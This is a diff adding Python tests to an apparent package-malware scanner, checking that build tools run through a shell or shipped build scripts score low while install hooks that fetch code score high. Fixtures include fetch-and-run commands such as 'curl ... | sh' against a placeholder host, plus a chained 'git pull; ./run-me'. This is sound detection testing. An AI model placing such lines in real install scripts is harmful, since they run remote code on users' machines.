@@ -579,3 +579,39 @@ def test_ascii_art_in_a_data_module_too_large_to_parse_is_no_look_alike_names() 
         f"______{'_' * (i % 9)} = {i}\nprint(______{'_' * (i % 9)})\n" for i in range(9)
     )
     assert weight("packed-code", {"fonts/__init__.py": "", "fonts/mod.py": names * 3}) > 0
+
+
+def test_a_build_tool_run_through_a_shell_is_a_build_tool() -> None:
+    """``bash -c "git rev-parse HEAD"`` in setup.py runs git, not code; ``bash -c`` with a
+    fetch, or with commands chained, is still inline code."""
+    setup = "import shlex, subprocess\ncmd = shlex.split({cmd!r})\nsubprocess.check_output(cmd)\n"
+    git = weight("process-exec", {"setup.py": setup.format(cmd='bash -c "git rev-parse HEAD"')})
+    help_probe = weight("process-exec", {"setup.py": setup.format(cmd="3to2 --help")})
+    fetch = weight(
+        "process-exec",
+        {"setup.py": setup.format(cmd='bash -c "curl -s https://example.invalid/x | sh"')},
+    )
+    chained = weight("process-exec", {"setup.py": setup.format(cmd='bash -c "git pull; ./run-me"')})
+    assert git < 0.1
+    assert help_probe < 0.1
+    assert fetch > 0.3
+    assert chained > 0.3
+
+
+def test_a_build_script_shipped_in_the_package_is_build_tooling() -> None:
+    """An install hook that runs the package's own build script (a native build) is told
+    from a dropper by what runs: a script shipped in the sdist that downloads nothing and
+    shows no threat is build tooling; one that fetches code, or one the sdist does not hold
+    (written or downloaded at install), is not."""
+    hook = _install_hook("subprocess.run(['./build.sh'], cwd='scripts', check=True)").replace(
+        "import os", "import os, subprocess"
+    )
+    build = "#!/usr/bin/env bash\nset -eu\ncmake -S . -B build\ncmake --build build\n"
+    fetch = "#!/usr/bin/env bash\ncurl -s https://example.invalid/x.sh | bash\n"
+    shipped = {"setup.py": hook, "scripts/build.sh": build}
+    fetching = {"setup.py": hook, "scripts/build.sh": fetch}
+    missing = {"setup.py": hook}
+    assert weight("process-exec", shipped) < 0.1
+    assert weight("install-hook", shipped) < weight("install-hook", missing)
+    assert weight("process-exec", fetching) == weight("process-exec", missing) > 0.1
+    assert weight("install-hook", fetching) == weight("install-hook", missing)
